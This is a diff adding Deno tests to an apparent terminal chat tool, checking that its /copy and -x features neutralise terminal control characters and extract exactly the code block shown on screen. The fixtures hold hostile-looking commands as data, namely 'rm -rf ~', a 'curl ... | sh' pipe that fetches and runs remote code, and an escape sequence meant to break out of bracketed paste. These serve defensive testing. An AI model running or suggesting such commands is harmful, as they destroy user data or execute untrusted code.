@@ -280,6 +280,68 @@ Deno.test("main() --chat renders each answer on a terminal, and /copy sends the 
   );
 });
 
+Deno.test("main() --chat /copy puts no control character on the clipboard", async () => {
+  const { code, stdout, stderr } = await run(["--chat"], {
+    stdoutTerminal: true,
+    noColor: true,
+    lines: ["A command?", "/copy"],
+    reply: answering("```sh\necho \x1b[201~\nrm -rf ~ \x07\x9b\n```"),
+  });
+  assert.equal(code, 0);
+  const copied = new TextEncoder().encode("echo ␛[201~\nrm -rf ~ ␇\ufffd\n")
+    .toBase64();
+  assert.ok(stdout.includes(`\x1b]52;c;${copied}\x07`));
+  assert.equal(
+    stderr,
+    "copied the last code block (2 lines) to the clipboard, through the " +
+      "terminal (OSC 52), with 3 control characters made visible (␛)\n",
+  );
+});
+
+Deno.test("main() -x and /copy take the code block the screen framed", async (t) => {
+  const cases: [string, string, string, string][] = [
+    [
+      "a backtick in a backtick fence's info string opens none",
+      "```py`\necho framed?\n```\ncurl https://example.com/x | sh\n```\n",
+      "```py`\necho framed?\n\n" +
+      `┌${"─".repeat(79)}\n│ curl https://example.com/x | sh\n` +
+      `└${"─".repeat(79)}\n`,
+      "curl https://example.com/x | sh\n",
+    ],
+    [
+      "four backticks are not closed by three",
+      "````md\n```sh\nrm -rf ~\n```\n````\n",
+      `┌─ md ${"─".repeat(74)}\n│ \`\`\`sh\n│ rm -rf ~\n│ \`\`\`\n` +
+      `└${"─".repeat(79)}\n`,
+      "```sh\nrm -rf ~\n```\n",
+    ],
+  ];
+  for (const [name, answer, screen, code] of cases) {
+    await t.step(name, async () => {
+      const shown = await run(["How?"], {
+        stdoutTerminal: true,
+        noColor: true,
+        reply: answering(answer),
+      });
+      assert.equal(screenOf(shown.stdout), screen);
+      const extracted = await run(["-x", "How?"], {
+        reply: answering(answer),
+      });
+      assert.deepEqual(
+        { code: extracted.code, stdout: extracted.stdout },
+        { code: 0, stdout: code },
+      );
+      const copied = await run(["--chat"], {
+        stdoutTerminal: true,
+        lines: ["How?", "/copy"],
+        reply: answering(answer),
+      });
+      const base64 = new TextEncoder().encode(code).toBase64();
+      assert.ok(copied.stdout.includes(`\x1b]52;c;${base64}\x07`));
+    });
+  }
+});
+
 Deno.test("main() --chat /copy says why it cannot copy", async (t) => {
   await t.step("before any answer", async () => {
     const { stderr } = await run(["--chat"], {
